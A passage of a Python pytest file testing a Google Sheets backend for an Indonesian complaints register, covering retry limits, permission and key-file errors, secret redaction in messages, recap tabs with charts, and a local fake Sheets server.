            drop_first_write.done = True
            raise requests.ConnectionError("connection reset by peer")
        return r

    session.request = drop_first_write
    reg = sheets_register(busy.settings, busy.layout, client=client, backoff_s=0.001)
    reg.read()
    s.reset_counts()
    ws = updates(2, 4)
    ws.appends.append({C.TICKET: "ADU/7", C.NAME: "Dari email"})
    ws.history.append({"No. Aduan": "ADU/7", "Peristiwa": "Aduan diterima"})
    res = reg.write(ws)
    assert (res.updated, res.appended, res.skipped) == (2, 1, [])
    assert [r[C.TICKET] for r in busy.dicts()].count("ADU/7") == 1
    assert [r[1] for r in busy.cells(HISTORY_TAB)].count("ADU/7") == 1
    assert s.count("batchUpdate") == 1, "checked, not retried"
    assert_every_row_is_its_own(busy, {2, 4})


def test_retries_are_bounded_then_transient_error(sheet, caplog):
    s = sheet.server
    s.fail_next(503, 10)
    reg = sheet.open(retries=3)
    with pytest.raises(RegisterError, match="503") as e:
        reg.read()
    assert not e.value.permanent
    assert s.count() == 3
    s.clear_hooks()


def test_read_only_share_names_the_service_account_to_share_with(sheet, caplog):
    sheet.server.make_read_only(sheet.key)
    sheet.reg.read()
    with caplog.at_level(logging.DEBUG), pytest.raises(RegisterError, match=SA_EMAIL) as e:
        sheet.reg.write(WriteSet(meta={"a": "1"}))
    assert e.value.permanent and "Editor" in str(e.value)
    assert "RAHASIA" not in caplog.text and "RAHASIA" not in str(e.value)
    assert sheet.server.count("batchUpdate") == 1, "403 is not retried"


def test_private_sheet_and_wrong_id(sheet, make_settings, layout, tmp_path):
    sheet.server.make_private(sheet.key)
    with pytest.raises(RegisterError, match=f"{SA_EMAIL} sebagai Editor") as e:
        sheet.reg.read()
    assert e.value.permanent
    s = make_settings("bpbd", register={"type": "google", "spreadsheet_id": "1salah"})
    reg = sheets_register(s, layout, client=sheet.server.client())
    with pytest.raises(RegisterError, match="1salah tidak ditemukan") as e:
        reg.read()
    assert e.value.permanent


def test_key_file_problems_are_config_errors_without_the_secret(make_settings, layout, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"type": "authorized_user", "client_secret": "RAHASIA"}')
    for reg_conf, pattern in [
        ({"credentials_file": str(bad)}, "bukan kunci JSON akun layanan"),
        ({"credentials_file": str(tmp_path / "none.json")}, "tidak dapat dibaca"),
        ({"credentials_env": "ADUAN_TEST_NO_SUCH_VAR"}, "ADUAN_TEST_NO_SUCH_VAR"),
        ({}, "belum diatur"),
    ]:
        s = make_settings("bpbd", register={"type": "google", "spreadsheet_id": "x", **reg_conf})
        with pytest.raises(ConfigError, match=pattern) as e:
            open_register(s, layout).read()
        assert "RAHASIA" not in str(e.value)


def test_key_from_env_var_holding_json_gives_the_identity(make_settings, layout, monkeypatch):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    pem = (
        rsa.generate_private_key(public_exponent=65537, key_size=2048)
        .private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
        .decode()
    )
    info = {
        "type": "service_account",
        "client_email": SA_EMAIL,
        "private_key": pem,
        "token_uri": "https://oauth2.googleapis.com/token",
    }
    monkeypatch.setenv("ADUAN_SA_KEY", json.dumps(info))
    s = make_settings(
        "bpbd",
        register={"type": "google", "spreadsheet_id": "x", "credentials_env": "ADUAN_SA_KEY"},
    )
    reg = open_register(s, layout)
    assert isinstance(reg, SheetsRegister)
    assert reg.service_account_email == SA_EMAIL
    client = reg.client.connect()  # builds credentials from the key; no network until a call
    assert client.http_client.auth.service_account_email == SA_EMAIL
    assert client.http_client.timeout == 60


# ------------------------------------------------------ report tabs, check
def test_write_tab_creates_and_replaces_report_tab(sheet):
    sheet.reg.write(WriteSet(appends=[{C.TICKET: "ADU/1"}]))
    sheet.reg.write_tab("Rekap 2026-11", [["Bulan", "Jumlah"], ["2026-11", "12"], ["=1+1", "x"]])
    sheet.server.reset_counts()
    sheet.reg.write_tab("Rekap 2026-11", [["Bulan", "Jumlah"], ["2026-11", "13"]])
    assert sheet.server.count("write") == 1, "the recap tab is written in one request"
    assert sheet.server.cells(sheet.key, "Rekap 2026-11") == [
        ["Bulan", "Jumlah"],
        ["2026-11", "13"],
    ]
    assert sheet.reg.read().rows[0].get(C.TICKET) == "ADU/1"
    for bad in (REGISTER_TAB, META_TAB, "Rekap/11"):
        with pytest.raises(RegisterError):
            sheet.reg.write_tab(bad, [["x"]])


def test_check_line(sheet):
    sheet.reg.write(WriteSet(appends=[{C.TICKET: "ADU/1"}, {C.TICKET: "ADU/2"}]))
    line = sheet.reg.check()
    used = sum(x.row_count * x.column_count for x in sheet.server.spreadsheet(sheet.key).sheets)
    cells = f"{used:,}".replace(",", ".") + " dari 10.000.000 sel terpakai (1%)"
    assert (
        line == f"Google Sheet 'Register BPBD': 2 aduan bernomor; {cells}; akses sebagai {SA_EMAIL}"
    )


def test_open_register_google(sheet, layout):
    reg = open_register(sheet.settings, layout)
    assert isinstance(reg, SheetsRegister) and reg.key == sheet.key


def test_quote_tab_and_columns():
    assert quote_tab("Register Aduan") == "'Register Aduan'"
    assert quote_tab("It's") == "'It''s'"
    assert [a1_col(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


def test_register_grid_grows_with_dropdowns_before_it_runs_out(sheet, layout):
    s, key = sheet.server, sheet.key
    reg_id = s.sheet_id(key, REGISTER_TAB)
    s.apply(
        key,
        [
            {
                "updateSheetProperties": {
                    "properties": {"sheetId": reg_id, "gridProperties": {"rowCount": 20}},
                    "fields": "gridProperties.rowCount",
                }
            }
        ],
    )
    sheet.reg.read()
    s.reset_counts()
    sheet.reg.write(WriteSet(appends=[{C.TICKET: f"ADU/{i}"} for i in range(3)]))
    assert s.count() == 1
    ws = s.sheet(key, REGISTER_TAB)
    assert ws.row_count == 1020
    kat = layout.headers.index("Kategori")
    assert all((r, kat) in ws.validations for r in range(1, 1020))
    sheet.reg.read()
    sheet.reg.write(WriteSet(appends=[{C.TICKET: "ADU/9"}]))
    assert s.sheet(key, REGISTER_TAB).row_count == 1020, "grown once, not every write"


# ------------------------------ the server features this backend relies on
def _batch(server, key: str, body: dict) -> dict:
    from gspread.urls import SPREADSHEET_BATCH_UPDATE_URL

    http = server.client().http_client
    return http.request("post", SPREADSHEET_BATCH_UPDATE_URL % key, json=body).json()


def test_server_update_cells_clears_masked_cells_without_a_value(sheets_server):
    key = sheets_server.create_spreadsheet(tabs=["T"])
    sheets_server.set_cells(key, "T", [["a", "b", "c", "d"]])
    rng = {
        "sheetId": 0,
        "startRowIndex": 0,
        "endRowIndex": 1,
        "startColumnIndex": 1,
        "endColumnIndex": 3,
    }
    cell = {"userEnteredValue": {"stringValue": "=1+1"}}
    _batch(
        sheets_server,
        key,
        {
            "requests": [
                {
                    "updateCells": {
                        "range": rng,
                        "rows": [{"values": [cell, {}]}],
                        "fields": "userEnteredValue",
                    }
                }
            ]
        },
    )
    assert sheets_server.cells(key, "T") == [["a", "=1+1", None, "d"]], "a string, not a formula"


def test_server_append_cells_goes_after_the_last_row_with_data_and_grows(sheets_server):
    key = sheets_server.create_spreadsheet(tabs=["T"], rows=3)
    sheets_server.set_cells(key, "T", [["h"], [""], ["x"]])  # a gap does not stop it
    rows = [{"values": [{"userEnteredValue": {"stringValue": f"n{i}"}}]} for i in range(2)]
    _batch(
        sheets_server,
        key,
        {"requests": [{"appendCells": {"sheetId": 0, "rows": rows, "fields": "userEnteredValue"}}]},
    )
    assert sheets_server.cells(key, "T") == [["h"], [], ["x"], ["n0"], ["n1"]]
    assert sheets_server.sheet(key, "T").row_count == 5


def test_server_returns_the_sheet_after_the_batch_and_rolls_back_on_error(sheets_server):
    key = sheets_server.create_spreadsheet(tabs=["T"])
    sheets_server.set_cells(key, "T", [["a"], ["b"]])
    cell = {"userEnteredValue": {"stringValue": "z"}}
    upd = {
        "updateCells": {
            "start": {"sheetId": 0, "rowIndex": 1},
            "rows": [{"values": [cell]}],
            "fields": "userEnteredValue",
        }
    }
    out = _batch(
        sheets_server,
        key,
        {
            "requests": [upd],
            "includeSpreadsheetInResponse": True,
            "responseRanges": ["T!A2:B2"],
            "responseIncludeGridData": True,
        },
    )
    (grid,) = out["updatedSpreadsheet"]["sheets"][0]["data"]
    assert grid["startRow"] == 1
    assert grid["rowData"][0]["values"][0]["formattedValue"] == "z"
    with pytest.raises(Exception, match="No grid with id"):
        _batch(
            sheets_server,
            key,
            {
                "requests": [
                    {**upd, "updateCells": {**upd["updateCells"], "rows": [{"values": [{}]}]}},
                    {"appendCells": {"sheetId": 99, "rows": [], "fields": "userEnteredValue"}},
                ]
            },
        )
    assert sheets_server.cells(key, "T") == [["a"], ["z"]], "all or nothing"


# ------------------------------------------- a register staff can read (issue 22)
def test_init_makes_the_sheet_readable_like_the_xlsx(sheet, layout):
    """The header filter, No. Aduan frozen beside the header and wrapped cells, set by
    real Sheets API v4 requests the local server checks against the discovery document."""
    s, key = sheet.server, sheet.key
    tab = s.sheet(key, REGISTER_TAB)
    grid = tab.props["gridProperties"]
    assert grid["frozenRowCount"] == 1 and grid["frozenColumnCount"] == 1
    flt = tab.basic_filter["range"]
    assert (flt["startRowIndex"], flt["startColumnIndex"]) == (0, 0)
    assert flt["endColumnIndex"] == len(layout.headers)
    text_col = layout.headers.index(C.TEXT)
    assert tab.cell_format(5, text_col)["wrapStrategy"] == "WRAP"
    assert tab.cell_format(5, text_col)["verticalAlignment"] == "TOP"
    # Diterima is typeable for rows staff enter: not under the system columns' protection
    recv = layout.headers.index(C.RECEIVED)
    for pr in tab.protected_ranges:
        r = pr["range"]
        if pr.get("description", "").startswith("Aduan: kolom sistem"):
            assert not (r["startColumnIndex"] <= recv < r["endColumnIndex"]), pr
    s.reset_counts()
    assert sheet.reg.init() == [] and s.count("write") == 0


def test_the_recap_tab_is_formatted_with_native_charts(sheet):
    """Issue 22: the Rekap tab on Google Sheets as on xlsx — numbers as numbers, bold
    headers, widths, and addChart charts; written again, replaced, not duplicated."""
    from aduan.core.recap import compute_recap
    from aduan.core.recap_text import recap_sheet, recap_table
    from tests.test_recap import CAL, DEC, ROWS, SOP, WIB

    rc = compute_recap(ROWS, SOP, CAL, DEC, WIB)
    s, key = sheet.server, sheet.key
    for _ in range(2):
        sheet.reg.write_tab("Rekap 2026-12", recap_table(rc), recap_sheet(rc))
    titles = [t.title for t in s.spreadsheet(key).sheets]
    assert titles.count("Rekap 2026-12") == 1
    tab = s.sheet(key, "Rekap 2026-12")
    cells = s.cells(key, "Rekap 2026-12")
    received = next(r for r in cells if r and r[0] == "Aduan diterima")
    assert received[1] == 3  # a number, not the text "3"
    assert [c["spec"]["title"] for c in tab.charts] == [
        "Aduan diterima menurut saluran",
        "Status aduan menurut kategori",
        "Tahap selesai sesuai mutu baku waktu",
    ]
    status = tab.charts[1]["spec"]["basicChart"]
    assert status["chartType"] == "COLUMN" and status["stackedType"] == "STACKED"
    assert tab.cell_format(0, 0)["textFormat"]["bold"]
